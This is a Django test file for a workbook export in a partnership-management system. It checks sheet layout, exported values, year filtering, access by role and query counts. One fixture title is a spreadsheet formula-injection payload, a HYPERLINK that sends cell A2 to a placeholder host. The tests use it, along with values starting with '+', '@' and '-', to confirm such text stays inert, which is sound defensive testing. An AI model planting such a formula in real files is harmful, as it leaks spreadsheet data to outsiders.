"""The workbook export: the format's sheets and columns, the values as entered, a year's file, access."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.utils import timezone, translation
from openpyxl import load_workbook

from simkerma.accounts.models import Role
from simkerma.accounts.tests.factories import UserFactory
from simkerma.activities.models import ActivityKind, ActivityStatus
from simkerma.activities.reporting import CooperationForm
from simkerma.activities.tests.factories import ActivityFactory
from simkerma.agreements.models import Kind
from simkerma.agreements.tests.factories import AgreementFactory
from simkerma.core.choices import Field, Level
from simkerma.core.dates import WIB
from simkerma.evaluations.tests.factories import EvaluationFactory
from simkerma.imports import exporter
from simkerma.imports import format as fmt
from simkerma.imports.exporter import export_workbook
from simkerma.imports.selectors import SHELL
from simkerma.org.models import Unit
from simkerma.org.tests.factories import ProdiFactory, UnitFactory
from simkerma.partners.models import Partner, PartnerCategory
from simkerma.partners.tests.factories import PartnerFactory
from simkerma.servicedesk.models import Channel, RequestKind
from simkerma.servicedesk.tests.factories import ServiceRequestFactory

FORMULA_TITLE = '=HYPERLINK("http://contoh.invalid/?x="&A2,"Klik")'


def rich_dataset() -> dict[str, object]:
    """Every sheet, lists, a three-deep tree, early termination, formula-looking text and unicode."""
    jurusan = UnitFactory(code="IF", name="Jurusan Teknik Informatika")
    p3m = UnitFactory(code="P3M", name="Pusat Penelitian & PkM", kind=Unit.Kind.P3M)
    UnitFactory(code="UPT", name="UPT Bahasa – “ünïcode”", kind=Unit.Kind.UNIT, expected_fields=[])
    if01 = ProdiFactory(code="IF01", name="Teknologi Rekayasa Perangkat Lunak", level="D4", unit=jurusan)
    if02 = ProdiFactory(code="IF02", name="Rekayasa Keamanan Siber", level="D3", unit=jurusan, active_until=2024)
    ProdiFactory(code="IF03", name="Animasi", level="S2", unit=jurusan, active_from=2021, instrument="laminfokom")
    industry = PartnerFactory(
        code="M001",
        name="PT Contoh Teknologi Batam",
        kind=Partner.Kind.INDUSTRI,
        city="Batam",
        address="Jl. Ahmad Yani\nBatam Centre",
        email="info@contoh.co.id",
        phone="+62 778 123456",
        website="https://contoh.co.id",
        ministry_category=PartnerCategory.objects.get(code="multinasional"),
    )
    university = PartnerFactory(
        code="M002", name="東京工業大学 (Tokyo Tech)", kind=Partner.Kind.PERGURUAN_TINGGI, country="JP", city=""
    )
    requester = PartnerFactory(code="M003", name="Dinas Pendidikan Kota Batam", kind=Partner.Kind.PEMERINTAH)
    PartnerFactory(code="M004", name="Asosiasi Tanpa Dokumen", kind=Partner.Kind.ASOSIASI)
    mou = AgreementFactory(
        kind=Kind.MOU,
        number="001/MOU/PL29/2024",
        title="Kerja sama pendidikan dan penelitian",
        level=Level.INTERNASIONAL,
        fields=[Field.PENELITIAN, Field.PENDIDIKAN],
        start_date=dt.date(2024, 1, 1),
        end_date=dt.date(2028, 12, 31),
        partners=[university, industry],
        units=[jurusan, p3m],
        prodi=[if02, if01],
        sdg_goals=["sdg17", "sdg4"],
    )
    moa = AgreementFactory(
        kind=Kind.MOA,
        number="002/MOA/PL29/2025",
        title=FORMULA_TITLE,
        parent=mou,
        level=Level.NASIONAL,
        fields=[Field.PENDIDIKAN],
        start_date=dt.date(2025, 2, 1),
        end_date=dt.date(2027, 1, 31),
        partners=[industry],
        units=[jurusan],
    )
    ia = AgreementFactory(
        kind=Kind.IA,
        number="003/IA/PL29/2025",
        title="Implementasi magang – ünï",
        parent=moa,
        level=Level.WILAYAH,
        fields=[Field.PKM, Field.PENDIDIKAN],
        start_date=dt.date(2025, 3, 1),
        end_date=dt.date(2025, 12, 31),
        partners=[industry],
    )
    ended = AgreementFactory(
        kind=Kind.MOU,
        number="004/MOU/PL29/2020",
        title="Kerja sama yang diakhiri lebih awal",
        start_date=dt.date(2020, 1, 1),
        end_date=dt.date(2024, 12, 31),
        terminated_on=dt.date(2022, 6, 30),
        partners=[requester],
    )
    ActivityFactory(
        code="K2025-00001",
        agreement=moa,
        title="+Magang mahasiswa semester ganjil",
        kind=ActivityKind.MAGANG,
        field=Field.PENDIDIKAN,
        start_date=dt.date(2025, 8, 1),
        end_date=dt.date(2025, 12, 31),
        status=ActivityStatus.DILAPORKAN,
        benefit="Mahasiswa mendapat pengalaman kerja",
        evidence="https://contoh/laporan",
        prodi=[if02, if01],
        units=[p3m],
        cooperation_form=CooperationForm.objects.get(code="magang_1_semester"),
    )
    ActivityFactory(
        code="K2025-00002",
        agreement=ia,
        title="Rencana kuliah tamu",
        kind=ActivityKind.KULIAH_TAMU,
        field=Field.PKM,
        start_date=dt.date(2025, 10, 5),
        status=ActivityStatus.RENCANA,
    )
    ActivityFactory(
        code="K2025-00003",
        agreement=mou,
        title="Penelitian bersama yang batal",
        kind=ActivityKind.PENELITIAN_BERSAMA,
        field=Field.PENELITIAN,
        start_date=dt.date(2025, 4, 1),
        status=ActivityStatus.BATAL,
    )
    ActivityFactory(
        code="K2021-00001",
        agreement=ended,
        title="Pelatihan guru",
        kind=ActivityKind.PELATIHAN,
        field=Field.PKM,
        start_date=dt.date(2021, 5, 20),
        status=ActivityStatus.TERLAKSANA,
    )
    ServiceRequestFactory(
        code="L2025-00001",
        channel=Channel.WHATSAPP,
        kind=RequestKind.NEW_DRAFT,
        document_kind=Kind.MOA,
        subject="@Draf MoA magang",
        requester_name="Budi Santoso",
        from_partner=True,
        partner=requester,
        received_at=dt.datetime(2025, 3, 3, 9, 15, 30, tzinfo=WIB),
        responded_at=dt.datetime(2025, 3, 3, 9, 25, tzinfo=WIB),
        draft_sent_at=dt.datetime(2025, 3, 3, 14, 0, tzinfo=WIB),
        followed_up_at=dt.datetime(2025, 3, 4, 8, 30, tzinfo=WIB),
    )
    ServiceRequestFactory(
        code="L2024-00001",
        channel=Channel.EMAIL,
        kind=RequestKind.INFORMATION,
        subject="Informasi kerja sama",
        requester_name="Siti Aminah",
        received_at=dt.datetime(2024, 12, 31, 23, 30, tzinfo=WIB),
    )
    ServiceRequestFactory(
        code="L2025-00002",
        channel=Channel.WEB,
        kind=RequestKind.OTHER,
        subject="Spam",
        requester_name="Spam",
        received_at=dt.datetime(2025, 5, 1, 10, 0, tzinfo=WIB),
        discarded_at=timezone.now(),
    )
    EvaluationFactory(
        agreement=moa,
        year=2025,
        benefit=True,
        performance=False,
        kepuasan=3,
        keberlanjutan=True,
        notes="-catatan evaluasi",
    )
    EvaluationFactory(
        agreement=ended, year=2021, benefit=None, performance=None, kepuasan=None, keberlanjutan=None, notes=""
    )
    return {"mou": mou, "moa": moa, "ia": ia, "ended": ended}


def exported(year: int | None = None, user: object = SHELL) -> tuple[bytes, exporter.ExportCounts]:
    output = io.BytesIO()
    counts = export_workbook(output=output, user=user, year=year)
    return output.getvalue(), counts


def values(content: bytes) -> dict[str, list[list[object]]]:
    """Every sheet's cell values, row by row (headers included)."""
    workbook = load_workbook(io.BytesIO(content))
    return {ws.title: [list(row) for row in ws.iter_rows(values_only=True)] for ws in workbook.worksheets}


def by_header(rows: list[list[object]]) -> list[dict[str, object]]:
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.mark.django_db
def test_every_sheet_and_column_of_the_format_in_its_order():
    content, counts = exported()
    sheets = values(content)
    assert list(sheets) == [sheet.name for sheet in fmt.SHEETS]
    for sheet in fmt.SHEETS:
        assert sheets[sheet.name] == [sheet.headers]
    assert counts.rows == {sheet.name: 0 for sheet in fmt.SHEETS} and counts.total == 0


@pytest.mark.django_db
def test_the_values_as_entered():
    rich_dataset()
    content, counts = exported()
    sheets = values(content)
    assert counts.rows == {
        "Unit": 3,
        "Prodi": 3,
        "Mitra": 4,
        "Dokumen": 4,
        "Kegiatan": 4,
        "Layanan": 2,
        "Evaluasi": 2,
    }
    assert sheets["Unit"][1:] == [
        ["IF", "Jurusan Teknik Informatika", "jurusan", "pendidikan;penelitian;pkm"],
        ["P3M", "Pusat Penelitian & PkM", "p3m", "penelitian;pkm"],
        ["UPT", "UPT Bahasa – “ünïcode”", "unit", None],
    ]
    assert sheets["Prodi"][1:] == [
        ["IF01", "Teknologi Rekayasa Perangkat Lunak", "D4", "IF", None, None, "iaps4"],
        ["IF02", "Rekayasa Keamanan Siber", "D3", "IF", None, 2024, "iaps4"],
        ["IF03", "Animasi", "S2", "IF", 2021, None, "laminfokom"],
    ]
    assert sheets["Mitra"][1:3] == [
        [
            "M001",
            "PT Contoh Teknologi Batam",
            "industri",
            "ID",
            "Batam",
            "Jl. Ahmad Yani\nBatam Centre",
            "info@contoh.co.id",
            "+62 778 123456",
            "https://contoh.co.id",
            "multinasional",
        ],
        ["M002", "東京工業大学 (Tokyo Tech)", "perguruan_tinggi", "JP", None, None, None, None, None, None],
    ]
    documents = by_header(sheets["Dokumen"])
    # Parents before their children, then by number.
    assert [row["nomor"] for row in documents] == [
        "001/MOU/PL29/2024",
        "004/MOU/PL29/2020",
        "002/MOA/PL29/2025",
        "003/IA/PL29/2025",
    ]
    assert sheets["Dokumen"][1] == [
        "001/MOU/PL29/2024",
        "MoU",
        "Kerja sama pendidikan dan penelitian",
        "M001;M002",
        None,
        "internasional",
        "pendidikan;penelitian",
        "IF;P3M",
        "IF01;IF02",
        dt.datetime(2024, 1, 1),
        dt.datetime(2028, 12, 31),
        None,
        "sdg4;sdg17",
    ]
    assert documents[1]["diakhiri_pada"] == dt.datetime(2022, 6, 30)
    assert documents[2]["jenis"] == "MoA" and documents[2]["induk_nomor"] == "001/MOU/PL29/2024"
    assert documents[2]["judul"] == FORMULA_TITLE
    assert documents[3]["jenis"] == "IA" and documents[3]["induk_nomor"] == "002/MOA/PL29/2025"
    assert documents[3]["bidang"] == "pendidikan;pkm" and documents[3]["unit_kode"] is None
    activities = by_header(sheets["Kegiatan"])
    assert [row["kode"] for row in activities] == ["K2021-00001", "K2025-00001", "K2025-00002", "K2025-00003"]
    assert sheets["Kegiatan"][2] == [
        "K2025-00001",
        "002/MOA/PL29/2025",
        "+Magang mahasiswa semester ganjil",
        "pendidikan",
        "IF01;IF02",
        "P3M",
        dt.datetime(2025, 8, 1),
        dt.datetime(2025, 12, 31),
        "terlaksana",
        "Mahasiswa mendapat pengalaman kerja",
        "https://contoh/laporan",
        "magang",
        "magang_1_semester",
    ]
    # What was entered, nothing derived: no prodi or unit named, the cells are empty.
    assert activities[2]["prodi_kode"] is None and activities[2]["unit_kode"] is None
    assert [row["status"] for row in activities] == ["terlaksana", "terlaksana", "rencana", "batal"]
    # The discarded request is not exported.
    assert sheets["Layanan"][1:] == [
        [
            "L2024-00001",
            "email",
            "informasi",
            "tidak",
            None,
            dt.datetime(2024, 12, 31, 23, 30),
            None,
            None,
            None,
            "Informasi kerja sama",
            "Siti Aminah",
        ],
        [
            "L2025-00001",
            "whatsapp",
            "draf_dokumen",
            "ya",
            "M003",
            dt.datetime(2025, 3, 3, 9, 15, 30),
            dt.datetime(2025, 3, 3, 9, 25),
            dt.datetime(2025, 3, 3, 14, 0),
            dt.datetime(2025, 3, 4, 8, 30),
            "@Draf MoA magang",
            "Budi Santoso",
        ],
    ]
    assert sheets["Evaluasi"][1:] == [
        ["002/MOA/PL29/2025", 2025, "ya", "tidak", 3, "ya", "-catatan evaluasi"],
        ["004/MOU/PL29/2020", 2021, None, None, None, None, None],
    ]


@pytest.mark.django_db
def test_cells_are_typed_dates_are_dates_and_formula_looking_text_stays_text():
    rich_dataset()
    content, _counts = exported()
    workbook = load_workbook(io.BytesIO(content))
    documents = workbook["Dokumen"]
    header = [cell.value for cell in documents[1]]
    moa = documents[4]
    title = moa[header.index("judul")]
    assert title.value == FORMULA_TITLE and title.data_type == "s" and title.quotePrefix
    start = moa[header.index("tanggal_mulai")]
    assert start.is_date and start.number_format == "yyyy-mm-dd"
    assert all(cell.font.bold for cell in documents[1])
    requests = workbook["Layanan"]
    received = requests[3][5]
    assert received.is_date and received.number_format == "yyyy-mm-dd hh:mm"
    assert requests[3][9].value == "@Draf MoA magang" and requests[3][9].quotePrefix
    activity_title = workbook["Kegiatan"][3][2]
    assert activity_title.data_type == "s" and activity_title.quotePrefix
    assert workbook["Evaluasi"][2][6].quotePrefix
    # A code is text even when it looks like a number; a year is a number.
    assert workbook["Prodi"][3][5].data_type == "n"


@pytest.mark.django_db
def test_two_exports_of_the_same_data_are_the_same():
    rich_dataset()
    first, _counts = exported()
    second, _counts = exported()
    assert values(first) == values(second)


@pytest.mark.django_db
def test_one_year_carries_what_its_rows_name():
    rich_dataset()
    content, counts = exported(2025)
    sheets = {name: by_header(rows) for name, rows in values(content).items()}
    # Unit and Prodi whole.
    assert [row["kode"] for row in sheets["Unit"]] == ["IF", "P3M", "UPT"]
    assert [row["kode"] for row in sheets["Prodi"]] == ["IF01", "IF02", "IF03"]
    # In force in 2025 (the MoU as the MoA's parent too); the one ended in 2022 is left out.
    assert [row["nomor"] for row in sheets["Dokumen"]] == [
        "001/MOU/PL29/2024",
        "002/MOA/PL29/2025",
        "003/IA/PL29/2025",
    ]
    assert [row["kode"] for row in sheets["Kegiatan"]] == ["K2025-00001", "K2025-00002", "K2025-00003"]
    assert [row["kode"] for row in sheets["Layanan"]] == ["L2025-00001"]
    assert [(row["dokumen_nomor"], row["tahun"]) for row in sheets["Evaluasi"]] == [("002/MOA/PL29/2025", 2025)]
    # The partners the agreements and the request name; none other.
    assert [row["kode"] for row in sheets["Mitra"]] == ["M001", "M002", "M003"]
    assert counts.rows["Mitra"] == 3


@pytest.mark.django_db
def test_a_year_brings_the_parents_and_agreements_of_its_rows():
    mou = AgreementFactory(number="A/MOU", start_date=dt.date(2010, 1, 1), end_date=dt.date(2014, 12, 31))
    moa = AgreementFactory(
        kind=Kind.MOA, number="B/MOA", parent=mou, start_date=dt.date(2011, 1, 1), end_date=dt.date(2012, 12, 31)
    )
    ia = AgreementFactory(
        kind=Kind.IA, number="C/IA", parent=moa, start_date=dt.date(2012, 1, 1), end_date=dt.date(2012, 6, 30)
    )
    # An activity of 2013 under an IA that ended in 2012 (outside its period: a warning, not a refusal).
    ActivityFactory(code="K1", agreement=ia, start_date=dt.date(2013, 2, 1))
    other = AgreementFactory(number="D/MOU", start_date=dt.date(2001, 1, 1), end_date=dt.date(2002, 1, 1))
    EvaluationFactory(agreement=other, year=2013)
    AgreementFactory(number="E/MOU", start_date=dt.date(2001, 1, 1), end_date=dt.date(2002, 1, 1))
    content, _counts = exported(2013)
    sheets = {name: by_header(rows) for name, rows in values(content).items()}
    assert [row["nomor"] for row in sheets["Dokumen"]] == ["A/MOU", "D/MOU", "B/MOA", "C/IA"]
    assert [row["kode"] for row in sheets["Kegiatan"]] == ["K1"]


@pytest.mark.django_db
def test_a_year_outside_the_product_range_is_refused():
    with pytest.raises(ValidationError) as refusal:
        exported(1989)
    assert "year" in refusal.value.message_dict


@pytest.mark.django_db
@pytest.mark.parametrize("role", [Role.STAF, Role.KAPOKJA, Role.ADMIN, Role.PIMPINAN, Role.AUDITOR])
def test_the_team_pimpinan_and_auditors_export(role):
    user = UserFactory(role=role)
    _content, counts = exported(user=user)
    assert counts.total == 0


@pytest.mark.django_db
def test_unit_roles_and_accounts_without_a_role_may_not(coordinator, p3m_user, outsider):
    for user in (coordinator, p3m_user, outsider):
        with pytest.raises(PermissionDenied):
            exported(user=user)
    inactive = UserFactory(role=Role.STAF, is_active=False)
    with pytest.raises(PermissionDenied):
        exported(user=inactive)


@pytest.mark.django_db
def test_text_longer_than_a_cell_holds_is_reported(monkeypatch):
    monkeypatch.setattr(exporter, "MAX_CELL_TEXT", 10)
    PartnerFactory(code="M1", name="Nama yang panjang sekali")
    with translation.override("en"):
        _content, counts = exported()
    assert counts.warnings == (
        "Sheet Mitra, row 2, column nama: the text is longer than a cell holds (10 characters) and was cut there.",
    )
    with translation.override("id"):
        _content, counts = exported()
    assert counts.warnings == (
        "Lembar Mitra, baris 2, kolom nama: teksnya lebih panjang daripada isi satu sel (10 karakter) "
        "dan dipotong di situ.",
    )


@pytest.mark.django_db
def test_text_longer_than_the_import_takes_is_written_whole_and_reported(settings):
    settings.SIMKERMA_IMPORT_MAX_TEXT = 30
    benefit = "Manfaat " * 5
    ActivityFactory(code="K1", benefit=benefit)
    with translation.override("en"):
        content, counts = exported()
    assert counts.warnings == (
        "Sheet Kegiatan, row 2, column manfaat: the text is longer than the import takes (30 characters); "
        "shorten it before importing this file.",
    )
    assert by_header(values(content)["Kegiatan"])[0]["manfaat"] == benefit
    with translation.override("id"):
        _content, counts = exported()
    assert counts.warnings == (
        "Lembar Kegiatan, baris 2, kolom manfaat: teksnya lebih panjang daripada yang diterima impor "
        "(30 karakter); pendekkan sebelum mengimpor berkas ini.",
    )


def _dataset_of(size: int) -> None:
    for index in range(size):
        partner = PartnerFactory(code=f"M{index:03d}")
        agreement = AgreementFactory(number=f"{index:03d}/MOU", partners=[partner])
        ActivityFactory(code=f"K{index:03d}", agreement=agreement, start_date=dt.date(2026, 1, 1))
        ServiceRequestFactory(code=f"L{index:03d}", partner=partner)
        EvaluationFactory(agreement=agreement, year=2026)


# Seven sheets, one query each; a chunk of agreements reads three code lists, a chunk of activities two.
def _expected_queries(chunks: int) -> int:
    return 7 + 3 * chunks + 2 * chunks


@pytest.mark.django_db
@pytest.mark.parametrize("size", [1, 3, 7])
def test_the_queries_depend_only_on_the_number_of_chunks(size, monkeypatch, django_assert_num_queries):
    monkeypatch.setattr(exporter, "CHUNK_SIZE", 3)
    _dataset_of(size)
    chunks = -(-size // 3)
    with django_assert_num_queries(_expected_queries(chunks)):
        _content, counts = exported()
    assert counts.rows["Kegiatan"] == size and counts.rows["Dokumen"] == size


@pytest.mark.django_db
@pytest.mark.parametrize("size", [1, 3])
def test_a_year_costs_the_same_queries(size, monkeypatch, django_assert_num_queries):
    monkeypatch.setattr(exporter, "CHUNK_SIZE", 3)
    _dataset_of(size)
    with django_assert_num_queries(_expected_queries(1)):
        _content, counts = exported(2026)
    assert counts.rows["Kegiatan"] == size and counts.rows["Mitra"] == size


@pytest.mark.django_db
def test_progress_is_told_each_sheet_and_chunk(monkeypatch):
    monkeypatch.setattr(exporter, "CHUNK_SIZE", 2)
    _dataset_of(3)
    calls = []
    export_workbook(
        output=io.BytesIO(), user=SHELL, progress=lambda sheet, done, total: calls.append((sheet, done, total))
    )
    assert calls[:1] == [("Unit", 0, 0)]
    assert [call for call in calls if call[0] == "Kegiatan"] == [
        ("Kegiatan", 0, 3),
        ("Kegiatan", 2, 3),
        ("Kegiatan", 3, 3),
    ]
